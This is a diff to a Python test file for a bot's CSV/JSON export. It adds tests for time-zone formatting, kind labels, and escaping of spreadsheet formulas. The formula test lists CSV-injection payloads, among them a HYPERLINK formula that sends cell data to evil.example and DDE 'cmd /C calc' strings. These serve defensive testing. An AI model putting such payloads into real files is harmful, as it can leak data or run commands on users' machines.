@@ -13,11 +13,16 @@ import json
 from datetime import UTC, datetime, timedelta
 from types import UnionType
 from typing import Any, Union, get_args, get_origin, get_type_hints
+from zoneinfo import ZoneInfo
+
+import pytest
 
 from bot.export import CSV_FIELDS, EXPORT_VERSION, export_files
+from core.kinds import KIND_LABELS
 from core.models import Draft, Kind, Outcome, Promise, Recurrence, Routine, UserSettings
 
 NOW = datetime(2026, 11, 27, 18, 30, tzinfo=UTC)
+_FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _read(hint: Any, value: Any) -> Any:
@@ -118,12 +123,16 @@ def test_the_json_is_readable_text() -> None:
     assert text.startswith("{\n")  # indented for people
 
 
+def _csv_rows(table: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(table.decode("utf-8"))))
+
+
 def test_the_csv_has_a_header_and_one_row_per_promise() -> None:
     promises = [full_promise(f"p{n}") for n in range(3)] + [
         Promise("o1", 42, "buy milk", NOW, NOW)
     ]
     _, table = export_files(USER, promises[3:], promises[:3], [], NOW)
-    rows = list(csv.DictReader(io.StringIO(table.decode("utf-8"))))
+    rows = _csv_rows(table)
     assert len(rows) == 4
     assert tuple(rows[0]) == CSV_FIELDS
     first = rows[1]
@@ -131,8 +140,55 @@ def test_the_csv_has_a_header_and_one_row_per_promise() -> None:
     assert first["task"] == 'call "Mom", then\nSam & co <b>'
     assert first["tags"] == "#mom @sam"
     assert first["outcome"] == "late"
-    assert first["kind"] == "callback"
-    assert datetime.fromisoformat(first["due"]) == promises[0].due
-    assert datetime.fromisoformat(first["closed"]) == promises[0].closed
     open_row = rows[0]
     assert (open_row["id"], open_row["outcome"], open_row["closed"]) == ("o1", "", "")
+
+
+def test_csv_times_are_on_the_users_clock_to_the_minute() -> None:
+    # NOW is 18:30 UTC = 19:30 in Berlin (the user's zone); due was 3 hours before.
+    closed = full_promise(closed=NOW - timedelta(hours=2, seconds=-7, microseconds=-123))
+    _, table = export_files(USER, [], [closed], [], NOW)
+    (row,) = _csv_rows(table)
+    assert row["due"] == "2026-11-27 16:30"
+    assert row["created"] == "2026-11-25 16:30"
+    assert row["closed"] == "2026-11-27 17:30"  # no seconds, no microseconds, no offset
+    assert row["time_zone"] == "Europe/Berlin"
+    assert (
+        datetime.strptime(row["due"], "%Y-%m-%d %H:%M").replace(tzinfo=ZoneInfo(row["time_zone"]))
+        == closed.due
+    )
+
+
+def test_csv_kinds_are_words() -> None:
+    promises = [full_promise(f"p{n}", kind=k) for n, k in enumerate(Kind)]
+    _, table = export_files(USER, [], promises, [], NOW)
+    assert [row["kind"] for row in _csv_rows(table)] == [KIND_LABELS[k] for k in Kind]
+    assert "on_time" not in table.decode()
+
+
+@pytest.mark.parametrize(
+    "task",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_no_csv_cell_runs_as_a_formula(task: str) -> None:
+    promise = full_promise(task=task, tags=("@sam", "#home"), repair_of="=1+1")
+    _, table = export_files(USER, [], [promise], [], NOW)
+    (row,) = _csv_rows(table)
+    assert row["task"] == "'" + task  # shown exactly as typed, after the quote
+    assert row["tags"] == "'@sam #home"
+    assert row["repair_of"] == "'=1+1"
+    assert not any(cell.startswith(_FORMULA) for cell in row.values())
+
+
+def test_harmless_cells_are_left_as_they_are() -> None:
+    promise = full_promise(task="call mom = love", tags=("#mom",))
+    _, table = export_files(USER, [], [promise], [], NOW)
+    (row,) = _csv_rows(table)
+    assert (row["task"], row["tags"], row["snoozes"]) == ("call mom = love", "#mom", "2")
